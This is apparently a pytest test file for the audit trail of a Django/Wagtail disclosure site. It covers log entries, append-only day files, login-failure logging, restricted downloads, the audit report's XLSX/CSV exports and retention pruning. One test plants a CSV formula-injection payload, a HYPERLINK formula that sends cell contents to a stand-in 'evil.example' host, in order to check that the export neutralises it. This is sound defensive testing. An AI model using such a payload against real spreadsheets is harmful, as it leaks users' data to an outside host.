"""The audit trail: Wagtail's log and the append-only day files, the 审计日志 report with its
XLSX export, retention."""

import datetime
import io
import json

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.utils import timezone
from wagtail.documents import get_document_model
from wagtail.log_actions import registry as log_action_registry
from wagtail.models import ModelLogEntry, PageLogEntry

from disclosure.access import moderators_group
from disclosure.models import Audience, DisclosureAttachment, Membership, Role
from disclosure.models.disclosures import WithdrawalKind
from home import audit
from home.exports import HEADER_ROW

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def audit_dir(settings, tmp_path):
    settings.AUDIT_LOG_DIR = tmp_path / "audit"
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.AUDIT_LOG_DIR


@pytest.fixture
def moderator(django_user_model):
    user = django_user_model.objects.create_user("gongwei", password="x")
    user.groups.add(moderators_group())
    return user


@pytest.fixture
def editor(django_user_model, org):
    user = django_user_model.objects.create_user("editor", password="x")
    Membership.objects.create(user=user, organization=org, role=Role.EDITOR)
    return user


def file_lines(directory):
    lines = []
    for path in sorted(directory.glob("audit-*.jsonl")):
        lines += [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    return lines


def test_a_publication_is_logged_and_written_to_the_days_file(
    make_disclosure, moderator, audit_dir, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        page = make_disclosure(title="党费收缴公示")
        page.save_revision(user=moderator).publish(user=moderator)
    assert PageLogEntry.objects.filter(page=page, action="wagtail.publish").exists()
    published = [line for line in file_lines(audit_dir) if line["action"] == "wagtail.publish"]
    assert published[-1]["username"] == "gongwei"
    assert published[-1]["label"] == "党费收缴公示"
    today = timezone.localdate().isoformat()
    assert (audit_dir / f"audit-{today}.jsonl").exists()


def test_the_file_only_grows(
    make_disclosure, moderator, audit_dir, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        page = make_disclosure(title="第一条")
        page.save_revision(user=moderator).publish(user=moderator)
    first = b"".join(path.read_bytes() for path in audit_dir.glob("*.jsonl"))
    with django_capture_on_commit_callbacks(execute=True):
        page.save_revision(user=moderator).publish(user=moderator)
    second = b"".join(path.read_bytes() for path in audit_dir.glob("*.jsonl"))
    assert second.startswith(first) and len(second) > len(first)


def test_a_withdrawal_is_logged_with_its_reason(
    make_disclosure, moderator, audit_dir, django_capture_on_commit_callbacks
):
    page = make_disclosure(title="误发的名单")
    with django_capture_on_commit_callbacks(execute=True):
        page.withdraw(WithdrawalKind.REMOVED, "含有个人身份证号", moderator)
    entry = PageLogEntry.objects.get(page=page, action="disclosure.take_down")
    assert entry.data["reason"] == "含有个人身份证号" and entry.user == moderator
    assert any(
        line["data"].get("reason") == "含有个人身份证号"
        for line in file_lines(audit_dir)
        if line["action"] == "disclosure.take_down"
    )


def test_role_changes_are_logged(org, django_user_model):
    user = django_user_model.objects.create_user("zhangsan", password="x")
    membership = Membership.objects.create(user=user, organization=org, role=Role.EMPLOYEE)
    membership.role = Role.PARTY_MEMBER
    membership.save()
    entries = ModelLogEntry.objects.filter(action=audit.GROUPS_CHANGED, object_id=str(user.pk))
    data = [entry.data for entry in entries.order_by("timestamp", "pk")]
    assert {"added": [f"{org.title}·职工"]} in data
    assert {"removed": [f"{org.title}·职工"]} in data
    assert {"added": [f"{org.title}·党员"]} in data


def test_a_burst_of_failed_logins_and_the_pause_are_logged(client, django_user_model, settings):
    user = django_user_model.objects.create_user("gongwei", password="Right-password-2026")
    for _ in range(settings.AXES_FAILURE_LIMIT + 2):
        client.post("/accounts/login/", {"username": "gongwei", "password": "guess"})
    burst = ModelLogEntry.objects.get(action=audit.LOGIN_FAILURE_BURST, object_id=str(user.pk))
    assert burst.data["failures"] == settings.AXES_FAILURE_LIMIT
    lockouts = ModelLogEntry.objects.filter(action=audit.LOCKOUT, object_id=str(user.pk))
    assert lockouts.count() == 1  # once per pause, however often the attacker knocks


def test_failed_logins_for_unknown_names_are_logged_too(client, settings, audit_dir):
    for _ in range(settings.AXES_FAILURE_LIMIT):
        client.post("/accounts/login/", {"username": "nobody", "password": "guess"})
    entry = ModelLogEntry.objects.get(action=audit.LOGIN_FAILURE_BURST)
    assert entry.data["username"] == "nobody"
    failures = [line for line in file_lines(audit_dir) if line["action"] == "nanhu.login_failed"]
    assert len(failures) == settings.AXES_FAILURE_LIMIT
    assert {line["username"] for line in failures} == {"nobody"}


def restricted_document(make_disclosure, audience):
    page = make_disclosure(title="党员事项", audience=audience)
    document = get_document_model()(title="党员名单")
    document.file.save("list.pdf", ContentFile(b"%PDF-1.4 list"), save=True)
    DisclosureAttachment.objects.create(page=page, document=document)
    page.save_revision().publish()
    return document


def test_downloads_of_restricted_documents_are_logged(client, make_disclosure, editor):
    document = restricted_document(make_disclosure, Audience.PARTY)
    client.force_login(editor)
    assert client.get(document.url).status_code == 200
    entry = ModelLogEntry.objects.get(action=audit.RESTRICTED_DOWNLOAD)
    assert entry.user == editor and entry.object_id == str(document.pk)


def test_downloads_of_public_documents_are_not(client, make_disclosure, editor):
    document = restricted_document(make_disclosure, Audience.PUBLIC)
    client.force_login(editor)
    assert client.get(document.url).status_code == 200
    assert not ModelLogEntry.objects.filter(action=audit.RESTRICTED_DOWNLOAD).exists()


# ---- the 审计日志 report ---------------------------------------------------------------


def test_moderators_read_and_filter_the_audit_log(client, moderator, make_disclosure, other_org):
    theirs = make_disclosure(parent=other_org, title="乙单位的事项")
    theirs.withdraw(WithdrawalKind.WITHDRAWN, "信息已过期", moderator)
    client.force_login(moderator)
    html = client.get("/admin/reports/audit-log/").content.decode()
    assert "审计日志" in html and "乙单位的事项" in html and "信息已过期" in html
    filtered = client.get("/admin/reports/audit-log/", {"action": "disclosure.withdraw"})
    assert "乙单位的事项" in filtered.content.decode()
    filtered = client.get("/admin/reports/audit-log/", {"action": "wagtail.create"})
    assert "信息已过期" not in filtered.content.decode()


def test_the_audit_log_exports_as_xlsx_with_the_details(client, moderator, make_disclosure):
    page = make_disclosure(title="误发的名单")
    page.withdraw(WithdrawalKind.REMOVED, "含有个人身份证号", moderator)
    client.force_login(moderator)
    response = client.get("/admin/reports/audit-log/", {"export": "xlsx"})
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert any(
        "误发的名单" in row and any("含有个人身份证号" in str(c) for c in row) for row in rows
    )


def test_only_moderators_open_the_audit_log(client, editor, admin_user):
    client.force_login(editor)
    assert client.get("/admin/reports/audit-log/").status_code in (302, 403)
    assert "/admin/reports/audit-log/" not in client.get("/admin/").content.decode()
    client.force_login(admin_user)
    assert client.get("/admin/reports/audit-log/").status_code == 200


# ---- retention -----------------------------------------------------------------------------------


def test_pruning_keeps_at_least_180_days(make_disclosure, moderator, settings, audit_dir):
    settings.AUDIT_RETENTION_DAYS = 30  # too short: 180 are kept all the same
    page = make_disclosure(title="旧事项")
    old = audit.record("wagtail.edit", page, user=moderator)
    PageLogEntry.objects.filter(pk=old.pk).update(
        timestamp=timezone.now() - datetime.timedelta(days=179)
    )
    older = audit.record("wagtail.edit", page, user=moderator)
    PageLogEntry.objects.filter(pk=older.pk).update(
        timestamp=timezone.now() - datetime.timedelta(days=181)
    )
    audit_dir.mkdir(parents=True, exist_ok=True)
    ancient = audit_dir / f"audit-{(timezone.localdate() - datetime.timedelta(days=200))}.jsonl"
    recent = audit_dir / f"audit-{(timezone.localdate() - datetime.timedelta(days=100))}.jsonl"
    ancient.write_text("{}\n")
    recent.write_text("{}\n")
    out = io.StringIO()
    call_command("prune_audit_log", stdout=out)
    assert PageLogEntry.objects.filter(pk=old.pk).exists()
    assert not PageLogEntry.objects.filter(pk=older.pk).exists()
    assert recent.exists() and not ancient.exists()
    assert "180" in out.getvalue()


def test_the_csv_export_does_not_carry_formulas(client, moderator, make_disclosure):
    page = make_disclosure(title='=HYPERLINK("http://evil.example/?"&A1,"点击")')
    page.withdraw(WithdrawalKind.WITHDRAWN, "测试", moderator)
    client.force_login(moderator)
    response = client.get("/admin/reports/audit-log/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert not any(line.startswith("=") or ",=" in line for line in text.splitlines())


def test_new_passwords_and_privileges_are_logged(
    client, django_user_model, moderator, django_capture_on_commit_callbacks
):
    user = django_user_model.objects.create_user("zhangsan", password="Old-password-2026")
    client.force_login(user)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            "/accounts/password/change/",
            {
                "old_password": "Old-password-2026",
                "new_password1": "Nanhu-new-2026!",
                "new_password2": "Nanhu-new-2026!",
            },
        )
        user.refresh_from_db()
        user.is_superuser = True
        user.save()
        user.save(update_fields=["last_login"])  # each login: not a change of the account
    entries = ModelLogEntry.objects.filter(action=audit.ACCOUNT_CHANGED, object_id=str(user.pk))
    assert [entry.data for entry in entries.order_by("pk")] == [
        {"password": "changed"},
        {"is_superuser": True},
    ]
    assert "Nanhu-new-2026!" not in json.dumps([entry.data for entry in entries])


def test_the_audit_export_has_local_times_and_names_its_filter(client, moderator, make_disclosure):
    page = make_disclosure(title="过期的通知")
    page.withdraw(WithdrawalKind.WITHDRAWN, "信息已过期", moderator)
    client.force_login(moderator)
    query = {"export": "xlsx", "action": "disclosure.withdraw"}
    response = client.get("/admin/reports/audit-log/", query)
    assert "shenji-rizhi-" in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    label = str(log_action_registry.get_action_label("disclosure.withdraw"))
    assert label in sheet.cell(row=1, column=1).value  # the title row names the filter
    rows = list(sheet.iter_rows(min_row=HEADER_ROW + 1))
    assert rows and all(label in [cell.value for cell in row] for row in rows)
    times = [cell.value for row in rows for cell in row if cell.is_date]
    now = timezone.localtime().replace(tzinfo=None)  # Shanghai time, not UTC as Wagtail writes
    assert times and all(abs(now - time) < datetime.timedelta(minutes=5) for time in times)
